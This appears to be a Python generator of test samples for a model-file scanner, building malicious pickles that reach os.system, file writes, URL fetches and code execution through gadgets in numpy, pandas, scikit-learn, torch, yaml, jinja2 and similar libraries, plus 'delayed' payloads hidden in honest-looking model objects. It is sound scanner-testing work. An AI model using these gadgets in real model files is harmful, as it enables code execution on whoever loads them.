"""Held-out attacks: pickles that call what machine-learning libraries bring along."""

# ruff: noqa: E501 (one attack a line)
from __future__ import annotations

import pickle
from collections.abc import Iterator

from corpora.unseen_units import (
    CALL,
    EVIL,
    MARK,
    NAME,
    OUTSIDE,
    STATE,
    TOUCH,
    URL,
    WRITE,
    Attack,
    Raw,
    build,
    call,
    name,
    new,
    pickled,
)

S = name("os:system")
REACH = CALL | {"model-path-traversal", "model-external-data"}


def arrays() -> Iterator[Attack]:
    """numpy, scipy, pandas."""
    canary = f"{OUTSIDE}/canary"
    frame = call("pandas:DataFrame", {"a": [1]})
    series = call("pandas:Series", [TOUCH])
    table = {
        "numpy-load": ("numpy.load unpickles another file", call("numpy:load", f"{canary}.pkl", None, True)),
        "numpy-fromfile": ("numpy.fromfile reads any file into the model", call("numpy:fromfile", f"{canary}.txt", "u1")),
        "numpy-memmap-newobj": ("numpy.memmap empties a file in __new__, by NEWOBJ", new("numpy:memmap", f"{canary}.txt", "u1", "w+", 0, (4,))),
        "numpy-savetxt": ("numpy.savetxt writes a file", call("numpy:savetxt", MARK, [1.0])),
        "numpy-runstring": ("numpy's test helper executes a string", call("numpy.testing._private.utils:runstring", WRITE, {})),
        "numpy-vectorize": ("numpy.vectorize over os.system, called", call(call("numpy:vectorize", S), [TOUCH])),
        "numpy-frompyfunc": ("a ufunc of os.system, called", call(call("numpy:frompyfunc", S, 1, 1), TOUCH)),
        "numpy-piecewise": ("numpy.fromiter uses up a map", call("numpy:fromiter", call("builtins:map", S, [TOUCH]), "i8")),
        "numpy-apply-along-axis": ("numpy.apply_along_axis calls its function", call("numpy:apply_along_axis", call("operator:methodcaller", "tofile", MARK), 0, [1])),
        "numpy-tofile": ("a method of an honest array writes it to a path", call("numpy:ndarray.tofile", call("numpy:arange", 4), MARK)),
        "numpy-ctypeslib": ("numpy.ctypeslib loads a library", call(call("builtins:getattr", call("numpy.ctypeslib:load_library", "libc.so.6", "/lib/x86_64-linux-gnu"), "system"), TOUCH.encode())),
        "numpy-crackfortran": ("f2py evaluates what it takes for a dimension", call("numpy.f2py.crackfortran:myeval", WRITE, {"open": name("builtins:open")})),
        "numpy-datasource": ("numpy's DataSource fetches an address", call("numpy.lib.npyio:DataSource.open", call("numpy.lib.npyio:DataSource", "/tmp"), URL)),
        "numpy-genfromtxt": ("numpy.genfromtxt opens what its name says, network included", call("numpy:genfromtxt", URL)),
        "scipy-savemat": ("scipy.io.savemat writes a file", call("scipy.io:savemat", MARK, {"a": [1]})),
        "pandas-read-pickle": ("pandas.read_pickle of another file", call("pandas:read_pickle", f"{canary}.pkl")),
        "pandas-eval": ("DataFrame.query runs an expression that reaches os", call("pandas:DataFrame.query", frame, f"@pd.io.common.os.system('{TOUCH}')", )),
        "pandas-apply": ("Series.map calls os.system on each value", call("pandas:Series.map", series, S)),
        "pandas-pipe": ("pandas.core.common.pipe hands its function any argument", call("pandas.core.common:pipe", TOUCH, S)),
        "pandas-to-csv": ("DataFrame.to_csv writes a file", call("pandas:DataFrame.to_csv", frame, MARK)),
        "pandas-handle": ("pandas.io.common.get_handle opens for writing", call("pandas.io.common:get_handle", MARK, "w")),
        "pandas-read-csv": ("pandas.read_csv fetches an address", call("pandas:read_csv", URL)),
        "pandas-hdfstore": ("pandas.HDFStore creates a file", call("pandas:HDFStore", MARK)),
        "sympy": ("sympy.sympify evaluates its text", call("sympy:sympify", WRITE)),
    }  # fmt: skip
    for what, (does, body) in table.items():
        load = "import pandas as pd, pickle; x = pickle.load(open(F, 'rb'))"
        load += "; print(bytes(x))" if what == "numpy-fromfile" else ""
        yield pickled("gadgets-arrays", what, does, body, rules=REACH, call=load)


def learners() -> Iterator[Attack]:
    """scikit-learn, joblib, torch, boosters and what is installed with them."""
    hub = {"hubconf.py": f"dependencies = []\ndef model():\n    {WRITE}\n".encode()}
    table = {
        "sklearn-svmlight": ("sklearn.datasets.dump_svmlight_file writes a file", call("sklearn.datasets:dump_svmlight_file", [[1.0]], [1.0], MARK), {}),
        "sklearn-fetch": ("sklearn fetches a file", call("sklearn.datasets:fetch_file", URL), {}),
        "sklearn-transformer": ("FunctionTransformer.transform calls the function that it holds", call("sklearn.preprocessing:FunctionTransformer.transform", call("sklearn.preprocessing:FunctionTransformer", S), TOUCH), {}),
        "sklearn-parallel": ("_FuncWrapper of scikit-learn's parallel module is called", call(call("sklearn.utils.parallel:_FuncWrapper", S), TOUCH), {}),
        "joblib-load": ("joblib.load of another file", call("joblib:load", f"{OUTSIDE}/canary.pkl"), {}),
        "joblib-memory": ("joblib.Memory makes a folder", call("joblib:Memory", MARK), {}),
        "torch-hub": ("torch.hub executes hubconf.py", call("torch.hub:_load_local", ".", "model"), hub),
        "torch-load-from-bytes": ("torch.storage._load_from_bytes unpickles a pickle", call("torch.storage:_load_from_bytes", _legacy()), {}),
        "torch-fx-exec": ("torch.fx executes the source of a graph", call("torch.fx.graph_module:_exec_with_source", WRITE, {}), {}),
        "torch-fx-reduce": ("torch.fx rebuilds a GraphModule from its source", call("torch.fx.graph_module:_forward_from_src", f"def forward(self):\n    pass\n{WRITE}\n", {}), {}),
        "torch-collect-env": ("torch.utils.collect_env runs a command", call("torch.utils.collect_env:run", TOUCH), {}),
        "torch-save": ("torch.save writes a file", call("torch:save", [1], MARK), {}),
        "torch-from-file": ("torch.UntypedStorage.from_file creates and maps a file", call("torch:UntypedStorage.from_file", MARK, True, 16), {}),
        "torch-rebuild-from-type": ("torch._tensor._rebuild_from_type_v2 calls the function that it is given", call("torch._tensor:_rebuild_from_type_v2", S, name("builtins:int"), (TOUCH,), {}), {}),
        "torch-dotted-name": ("torch._utils imports dotted names", call(call("torch._utils:_import_dotted_name", "os.system"), TOUCH), {}),
        "dill-eval-repr": ("dill evaluates a repr", call("dill._dill:_eval_repr", WRITE), {}),
        "cloudpickle-subimport": ("cloudpickle imports a module that lies beside the model", call("cloudpickle.cloudpickle:subimport", "payload"), {"payload.py": WRITE.encode()}),
        "jsonpickle": ("jsonpickle decodes JSON into calls", call("jsonpickle:decode", '{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["' + TOUCH + '"]}]}'), {}),
        "yaml-unsafe": ("yaml.unsafe_load of a text", call("yaml:unsafe_load", f"!!python/object/apply:os.system ['{TOUCH}']"), {}),
        "jinja": ("jinja2.Template.render runs a template", call("jinja2:Template.render", call("jinja2:Template", "{{ cycler.__init__.__globals__.os.system('" + TOUCH + "') }}")), {}),
        "click-edit": ("click starts an editor of choice", call("click:edit", "text", TOUCH + ";"), {}),
        "git": ("GitPython runs a program", call("git.cmd:Git.execute", call("git.cmd:Git"), ["touch", MARK]), {}),
        "psutil": ("psutil.Popen starts a program", call("psutil:Popen", ["touch", MARK]), {}),
        "fsspec": ("fsspec opens any address for writing", call("fsspec.core:OpenFile.open", call("fsspec:open", MARK, "w")), {}),
        "safetensors-save": ("safetensors writes a file", call("safetensors.numpy:save_file", {}, MARK), {}),
        "h5py": ("h5py.File creates a file", call("h5py:File", MARK, "w"), {}),
        "pyarrow": ("pyarrow.OSFile opens for writing", call("pyarrow:OSFile", MARK, "w"), {}),
        "requests": ("requests.get fetches an address", call("requests:get", URL), {}),
        "xgboost": ("a Booster saves itself: xgboost.Booster.save_model", call("xgboost:Booster.save_model", call("xgboost:Booster"), MARK), {}),
        "lightgbm": ("lightgbm.Dataset.save_binary writes a file", call("lightgbm:Dataset.save_binary", call("lightgbm:Dataset", call("numpy:ones", (50, 2))), MARK), {}),
        "mlflow-exec": ("mlflow runs a command", call("mlflow.utils.process:_exec_cmd", ["touch", MARK]), {}),
    }  # fmt: skip
    for what, (does, body, files) in table.items():
        yield pickled("gadgets-learners", what, does, body, rules=REACH, beside=files)


def _legacy() -> bytes:
    """The streams of torch.save before 1.6, with a payload in the third."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return magic + pickle.dumps(1001, 2) + pickle.dumps(info, 2) + EVIL + pickle.dumps([], 2)


def delayed() -> Iterator[Attack]:
    """Honest classes whose state makes them act later, when the model is used or dropped."""
    pipe = build(new("sklearn.pipeline:Pipeline"), {"steps": [("f", build(new("sklearn.preprocessing._function_transformer:FunctionTransformer"), {"func": S, "inverse_func": None, "validate": False, "accept_sparse": False, "check_inverse": False, "feature_names_out": None, "kw_args": None, "inv_kw_args": None})), ("p", "passthrough")], "memory": None, "verbose": False, "transform_input": None})  # fmt: skip
    vector = build(new("sklearn.feature_extraction.text:HashingVectorizer"), {"input": "content", "preprocessor": S, "tokenizer": None, "analyzer": "word", "stop_words": None, "n_features": 4, "ngram_range": (1, 1), "binary": False, "norm": None, "alternate_sign": False, "dtype": name("numpy:float64"), "encoding": "utf-8", "decode_error": "strict", "strip_accents": None, "lowercase": False, "token_pattern": "x"})  # fmt: skip
    default = call("collections:defaultdict", call("functools:partial", S, TOUCH))
    hooks = Raw(build(new("torch.nn.modules.linear:Identity"), {"training": True, "_parameters": {}, "_buffers": {}, "_modules": {}, "_forward_pre_hooks": {1: name("builtins:print")}, "forward": S, "_forward_hooks": {}, "_backward_hooks": {}, "_backward_pre_hooks": {}, "_forward_hooks_with_kwargs": {}, "_forward_pre_hooks_with_kwargs": {}, "_state_dict_hooks": {}, "_load_state_dict_pre_hooks": {}}))  # fmt: skip
    table = {
        "pipeline-function": ("a pipeline's FunctionTransformer holds os.system; predict calls it", pipe, f"x.transform({TOUCH!r})", NAME),
        "vectorizer-preprocessor": ("a vectorizer's preprocessor is os.system", vector, f"x.transform([{TOUCH!r}])", NAME),
        "defaultdict-factory": ("a defaultdict's factory is a partial of os.system; a missing key calls it", default, "x['label']", NAME),
        "torch-forward": ("a torch module's instance attribute forward is os.system", hooks, f"x({TOUCH!r})", NAME | STATE),
        "cached-partial": ("a functools.partial of os.system takes the place of a model's predict", build(new("types:SimpleNamespace"), {"predict": call("functools:partial", S, TOUCH)}), "x.predict()", NAME),
        "bound-method": ("a bound method of an object of the library waits for its call", call("types:MethodType", S, TOUCH), "x()", NAME),
        "lambda-bytes": ("types.CodeType makes code that a function object waits with", call("types:FunctionType", call("builtins:compile", WRITE, "", "exec"), {"open": name("builtins:open")}), "x()", CALL),
        "reduce-again": ("honest when loaded, a call when it is pickled again", build(new("types:SimpleNamespace"), {"__reduce_ex__": call("functools:partial", S, TOUCH)}), "x.__reduce_ex__()", NAME),
        "property-class": ("a str subclass with a property that is evaluated when it is asked for", new(call("builtins:type", "M", (name("builtins:str"),), {"predict": call("builtins:property", name("builtins:eval"))}), WRITE), "x.predict", NAME | STATE),
    }  # fmt: skip
    for what, (does, body, use, rules) in table.items():
        load = f"import pickle\nx = pickle.load(open(F, 'rb'))\n{use}"
        yield pickled(
            "gadgets-delayed", what, does, body, rules=rules | STATE, call=load, loader="pickle.load, then use"
        )


def attacks() -> Iterator[Attack]:
    yield from arrays()
    yield from learners()
    yield from delayed()
